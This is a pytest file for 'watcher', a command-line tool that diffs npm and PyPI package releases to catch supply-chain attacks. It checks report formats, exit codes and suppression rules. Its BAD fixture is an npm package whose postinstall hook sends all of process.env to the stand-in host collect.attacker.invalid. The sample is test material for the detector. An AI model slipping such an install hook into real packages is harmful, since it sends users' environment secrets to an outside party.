"""The command line, in process, on local artifacts: contract, exit codes, errors."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support import archives
from watcher.artifacts.extract import read_archive
from watcher.cli import main
from watcher.errors import ArchiveError
from watcher.rules import REGISTRY

CLEAN = {
    "package.json": '{\n  "name": "strutil",\n  "version": "2.1.3"\n}\n',
    "index.js": "exports.upper = (s) => s.toUpperCase();\n",
}
BAD = {
    "package.json": (
        '{\n  "name": "strutil",\n  "version": "2.1.4",\n'
        '  "scripts": {\n    "postinstall": "node lib/setup.js"\n  }\n}\n'
    ),
    "index.js": CLEAN["index.js"],
    "lib/setup.js": (
        "const https = require('https');\n"
        "const data = JSON.stringify(process.env);\n"
        "const req = https.request({hostname: 'collect.attacker.invalid', method: 'POST'});\n"
        "req.end(data);\n"
    ),
}
HONEST = {**CLEAN, "index.js": CLEAN["index.js"] + "exports.lower = (s) => s.toLowerCase();\n"}


@pytest.fixture
def artifacts(tmp_path: Path) -> dict[str, Path]:
    paths = {}
    for name, files in {"clean": CLEAN, "bad": BAD, "honest": HONEST}.items():
        path = tmp_path / f"{name}.tgz"
        path.write_bytes(archives.npm_tarball(files))
        paths[name] = path
    return paths


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_json_contract_and_exit_1_on_malicious_diff(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--format",
        "json",
    )
    assert code == 1, err
    report = json.loads(out)
    assert {
        "schema",
        "ecosystem",
        "package",
        "old_version",
        "new_version",
        "score",
        "severity",
        "findings",
        "files",
        "metadata",
    } <= set(report)
    assert report["schema"] == 1 and report["ecosystem"] == "npm"
    assert (report["package"], report["old_version"], report["new_version"]) == (
        "strutil",
        "2.1.3",
        "2.1.4",
    )
    assert report["severity"] == "critical" and 90 <= report["score"] <= 100
    assert report["files"] == {"added": 1, "removed": 0, "changed": 1}
    assert set(report["metadata"]) >= {"publisher_changed", "provenance", "version_jump"}
    found = {(f["rule"], f["path"], f["line"]) for f in report["findings"]}
    assert ("npm.install-script", "package.json", 5) in found
    assert ("code.env-access", "lib/setup.js", 2) in found
    assert ("code.network", "lib/setup.js", 3) in found
    for f in report["findings"]:
        assert {"rule", "severity", "path", "line", "message", "evidence"} <= set(f)


def test_honest_release_is_quiet(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["honest"]),
        "--format",
        "json",
    )
    assert code == 0
    assert json.loads(out)["severity"] in {"none", "low"}


def test_text_report_puts_the_verdict_and_evidence_up_front(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(
        capsys, "diff", "--old", str(artifacts["clean"]), "--new", str(artifacts["bad"])
    )
    assert code == 1
    lines = out.splitlines()
    assert lines[0].startswith("watcher: strutil 2.1.3 → 2.1.4")
    assert lines[1].startswith("VERDICT: CRITICAL")
    assert "package.json:5" in out and "lib/setup.js:3" in out
    assert "collect.attacker.invalid" in out


@pytest.mark.parametrize(("fail_on", "expected"), [("critical", 1), ("high", 1), ("none", 0)])
def test_fail_on_threshold(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str], fail_on: str, expected: int
) -> None:
    code, _, _ = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--fail-on",
        fail_on,
    )
    assert code == expected


def test_markdown_format(artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--format",
        "markdown",
    )
    assert code == 1
    assert "**Verdict: CRITICAL**" in out
    assert "| high | `npm.install-script` | package.json:5 |" in out


def test_output_file_is_written_whole(
    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "report.json"
    code, out, _ = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--format",
        "json",
        "--output",
        str(target),
    )
    assert code == 1 and out == ""
    assert json.loads(target.read_text())["severity"] == "critical"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".report")] == []


def test_scan_artifact_has_null_old_version(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "scan", "--artifact", str(artifacts["bad"]), "--format", "json")
    report = json.loads(out)
    assert code == 1 and report["old_version"] is None
    assert "npm.install-script" in {f["rule"] for f in report["findings"]}


def one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    assert lines[0].startswith("watcher: error:")
    return lines[0]


@pytest.mark.parametrize(
    "argv",
    [
        ["diff", "pkg"],
        ["diff", "--old", "x.tgz"],
        ["diff", "pkg", "1", "2", "--format", "yaml"],
        ["scan"],
        ["nonsense"],
        [],
    ],
)
def test_usage_errors_exit_2_with_one_line(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        code = main(argv)
        raise SystemExit(code)
    assert exit_info.value.code == 2
    one_error_line(capsys.readouterr().err)


def test_missing_file_and_bad_output_dir_exit_2(
    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(
        capsys, "diff", "--old", str(tmp_path / "nope.tgz"), "--new", str(artifacts["bad"])
    )
    assert code == 2 and "nope.tgz" in one_error_line(err)
    code, _, err = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--output",
        str(tmp_path / "no" / "dir.json"),
    )
    assert code == 2
    one_error_line(err)


def test_mixed_ecosystems_are_refused(
    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
    wheel.write_bytes(archives.wheel({"pkg/__init__.py": ""}))
    code, _, err = run(capsys, "diff", "--old", str(artifacts["clean"]), "--new", str(wheel))
    assert code == 2 and "different ecosystems" in one_error_line(err)


@pytest.mark.parametrize("kind", sorted(archives.HOSTILE))
def test_hostile_archives_are_findings_and_write_nothing(
    kind: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A hostile archive is a finding of the release, never exit 2 or a clean verdict (§4.5).

    Whatever the installer would not write (npm skips `..`, links and devices) is left out of
    the view; whatever watcher cannot read as installed is `analysis.incomplete`, at high.
    """
    filename, data = archives.HOSTILE[kind]()
    hostile = tmp_path / filename
    hostile.write_bytes(data)
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    monkeypatch.setenv("WATCHER_DATA_DIR", str(tmp_path / "data"))
    before = sorted(tmp_path.rglob("*"))
    code, out, err = run(capsys, "scan", "--artifact", str(hostile), "--format", "json")
    assert sorted(tmp_path.rglob("*")) == before
    assert code in (0, 1), err
    report = json.loads(out)
    try:
        read_archive(data, filename)
    except ArchiveError as refused:
        incomplete = [f for f in report["findings"] if f["rule"] == "analysis.incomplete"]
        assert code == 1 and report["severity"] in ("high", "critical")
        assert incomplete and incomplete[0]["severity"] == "high"
        assert str(refused).split(": ", 1)[1] in incomplete[0]["message"]
    else:
        assert "analysis.incomplete" not in {f["rule"] for f in report["findings"]}


def test_bytes_that_are_no_archive_stay_an_input_error(
    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    junk = tmp_path / "x.tgz"
    junk.write_bytes(b"<html>not a tarball</html>")
    code, out, err = run(capsys, "diff", "--old", str(artifacts["clean"]), "--new", str(junk))
    assert code == 2 and out == ""
    assert "unknown archive format" in one_error_line(err)


def test_rules_list_names_every_rule(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "rules", "list")
    assert code == 0
    for rule in REGISTRY:
        assert rule.id in out


def test_name_on_both_registries_is_settled_by_the_requested_versions(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`mcp` exists on npm and PyPI: versions only PyPI has pick PyPI; otherwise ask."""
    import httpx

    from tests.registries.conftest import asset
    from watcher import cli
    from watcher.errors import AmbiguousPackage
    from watcher.httpclient import RetryPolicy, make_client
    from watcher.models import Ecosystem

    npm_packument = {
        "name": "mcp",
        "dist-tags": {"latest": "0.0.1"},
        "versions": {
            "0.0.1": {
                "name": "mcp",
                "version": "0.0.1",
                "dist": {
                    "tarball": "https://registry.npmjs.org/mcp/-/mcp-0.0.1.tgz",
                    "shasum": "0" * 40,
                },
            }
        },
        "time": {"0.0.1": "2020-01-01T00:00:00.000Z"},
    }

    def serve(request: httpx.Request) -> httpx.Response:
        if request.url.host == "registry.npmjs.org" and request.url.path == "/mcp":
            return httpx.Response(200, json=npm_packument)
        if request.url.host == "pypi.org" and request.url.path == "/pypi/mcp/json":
            return httpx.Response(200, content=asset("pypi/mcp.json"))
        return httpx.Response(404)

    monkeypatch.setattr(
        cli,
        "make_client",
        lambda: make_client(transport=httpx.MockTransport(serve), retry=RetryPolicy(attempts=1)),
    )
    args = cli.build_parser().parse_args(["diff", "mcp", "1.9.4", "1.10.0"])
    sources = cli._sources(args, "mcp", ["1.9.4", "1.10.0"])
    assert sources.registry.ecosystem is Ecosystem.PYPI
    with pytest.raises(AmbiguousPackage):
        cli._sources(args, "mcp", ["9.9.9", "9.9.10"])


def _diff_json(
    capsys: pytest.CaptureFixture[str], artifacts: dict[str, Path], *extra: str
) -> tuple[int, dict[str, Any]]:
    code, out, err = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--format",
        "json",
        *extra,
    )
    assert code in (0, 1), err
    return code, json.loads(out)


def test_allow_and_suppress_rescore_and_keep_the_findings_visible(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    code, plain = _diff_json(capsys, artifacts, "--fail-on", "critical")
    assert (code, plain["severity"]) == (1, "critical")
    [env] = [f for f in plain["findings"] if f["rule"] == "code.env-access"]
    # Allowing a host does not allow sending secrets there: the flow is accepted on its own.
    [flow] = [f for f in plain["findings"] if f["rule"] == "code.secret-flow"]

    code, report = _diff_json(
        capsys,
        artifacts,
        "--fail-on",
        "critical",
        "--allow",
        "network:collect.attacker.invalid",
        "--suppress",
        f"code.env-access@{env['fingerprint']}",
        "--suppress",
        f"code.secret-flow@{flow['fingerprint']}",
    )
    # Only the install hook is left: high on its own, no combination to escalate it.
    assert (code, report["severity"], report["reasons"]) == (0, "high", [])
    assert [f["rule"] for f in report["findings"]] == ["npm.install-script"]
    by = {(s["rule"], s["suppressed_by"]) for s in report["suppressed"]}
    assert by == {
        ("code.env-access", f"suppress:code.env-access@{env['fingerprint']}"),
        ("code.secret-flow", f"suppress:code.secret-flow@{flow['fingerprint']}"),
        ("code.network", "allow:network:collect.attacker.invalid"),
        ("code.new-host", "allow:network:collect.attacker.invalid"),
    }


def test_allow_does_not_match_a_longer_host(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _, report = _diff_json(capsys, artifacts, "--allow", "network:attacker.invalid")
    assert report["severity"] == "critical" and report["suppressed"] == []


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("--allow=network:https://api.github.com", "--allow: network: takes a host"),
        ("--allow=rule:code.netwrk", "--allow: unknown rule 'code.netwrk'"),
        ("--suppress=code.network@123", "--suppress: fingerprint must be 16 hex digits"),
    ],
)
def test_bad_policy_option_is_one_line_and_exit_2(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str], option: str, message: str
) -> None:
    code, out, err = run(capsys, "scan", "--artifact", str(artifacts["bad"]), option)
    assert (code, out) == (2, "")
    assert err.startswith(f"watcher: error: {message}") and err.count("\n") == 1


# --- --format sarif|html -------------------------------------------------------------------


@pytest.mark.parametrize(("new", "expected_code"), [("bad", 1), ("honest", 0)])
def test_sarif_format_on_diff(
    artifacts: dict[str, Path],
    capsys: pytest.CaptureFixture[str],
    new: str,
    expected_code: int,
) -> None:
    argv = ["diff", "--old", str(artifacts["clean"]), "--new", str(artifacts[new])]
    code, out, err = run(capsys, *argv, "--format", "sarif")
    assert code == expected_code, err
    log = json.loads(out)
    assert log["version"] == "2.1.0" and len(log["runs"]) == 1
    _, plain, _ = run(capsys, *argv, "--format", "json")
    rules = [r["ruleId"] for r in log["runs"][0]["results"]]
    assert rules == [f["rule"] for f in json.loads(plain)["findings"]]


def test_html_format_with_output_and_on_scan(
    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    page = tmp_path / "page.html"
    code, out, err = run(
        capsys,
        "diff",
        "--old",
        str(artifacts["clean"]),
        "--new",
        str(artifacts["bad"]),
        "--format",
        "html",
        "--output",
        str(page),
    )
    assert (code, out) == (1, ""), err
    html = page.read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and "lib/setup.js" in html
    assert 'class="add hit"' in html  # the diff itself is on the page, findings marked
    code, out, err = run(capsys, "scan", "--artifact", str(artifacts["bad"]), "--format", "html")
    assert code == 1, err
    assert "(first release)" in out and 'class="add hit"' in out
